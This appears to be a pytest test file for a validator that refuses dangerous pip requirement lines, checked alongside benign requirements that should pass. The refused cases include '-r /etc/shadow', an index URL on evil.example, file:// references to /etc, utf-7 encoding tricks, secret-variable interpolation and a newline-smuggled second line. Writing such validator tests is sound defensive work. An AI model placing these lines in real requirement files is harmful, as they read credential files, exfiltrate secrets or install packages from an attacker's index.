"""Requirement lines judged as pip reads them: each refused line is one pip would turn into another."""

from __future__ import annotations

import pytest

from harness.images.pip_lines import entry_refusal, refusal


@pytest.mark.parametrize(
    "line",
    [
        "-r /etc/shadow",
        "  --index-url https://evil.example/simple",
        "lib @ file:///etc",
        "lib @ FILE:///etc",
        "./local-pkg",
        "# -*- coding: utf-7 -*-",
        "#coding=utf_7",
        "${HF_TOKEN}",
        'lib; python_version == "${AWS_SECRET_ACCESS_KEY}"',
        "lib @ fi\\",
    ],
)
def test_a_line_pip_reads_as_an_option_a_reference_or_a_host_value_is_refused(line: str) -> None:
    assert refusal(line)


@pytest.mark.parametrize(
    "line", ["numpy>=1.26", "torch==2.4.0; platform_machine == 'x86_64'", "# pinned for CUDA 12", "", "pkg[extra]~=1.0"]
)
def test_plain_requirements_and_comments_pass(line: str) -> None:
    assert refusal(line) is None


def test_a_pyproject_entry_is_one_line() -> None:
    assert entry_refusal("markupsafe\n-r /etc/shadow")
    assert entry_refusal("markupsafe\r-r /etc/shadow")
    assert entry_refusal("markupsafe>=2") is None
